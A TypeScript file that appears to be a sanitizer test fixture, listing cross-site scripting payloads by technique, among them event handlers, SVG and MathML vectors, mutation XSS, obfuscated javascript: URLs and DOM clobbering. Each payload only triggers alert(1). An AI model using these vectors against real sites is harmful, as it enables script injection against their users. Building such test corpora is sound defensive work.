/** Hostile markup: each payload is another way to run a script in a browser, by the class that it belongs to. */
export const hostilePayloads: Record<string, readonly string[]> = {
  Scripts: [
    '<script>alert(1)</script>',
    '<noscript><p title="</noscript><script>alert(1)</script>">x</noscript>',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '<base href="javascript:alert(1)//"><a href="x">x</a>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  ],
  'Event handlers': [
    '<img src=x onerror=alert(1)>',
    '<p/onclick=alert(1)/title=x style="animation:a 1s" onanimationstart=alert(1)>x</p>',
    '<details open ontoggle=alert(1)><summary>x</summary></details>',
  ],
  SVG: [
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    '<svg><animate attributeName=href values="javascript:alert(1)" onbegin=alert(1) dur=1s /></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  ],
  MathML: [
    '<math><maction actiontype="statusline#javascript:alert(1)" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  ],
  'Mutation XSS': [
    '<svg></p><style><a title="</style><img src=x onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    '<!-- --!><img src=x onerror=alert(1)> -->',
    `${'<p><strong>'.repeat(60)}<svg><style><img src=x onerror=alert(1)></style></svg>`,
  ],
  'Addresses that run': [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="\u0001java\u0003script:alert(1)">x</a>',
    '<a href="jav&Tab;ascript&colon;alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  ],
  'DOM clobbering': [
    '<form onsubmit=alert(1)><input name=attributes><input name=removeChild></form>',
    '<p id=__proto__ name=body class=x data-x=y aria-label=z slot=a>x</p>',
  ],
};
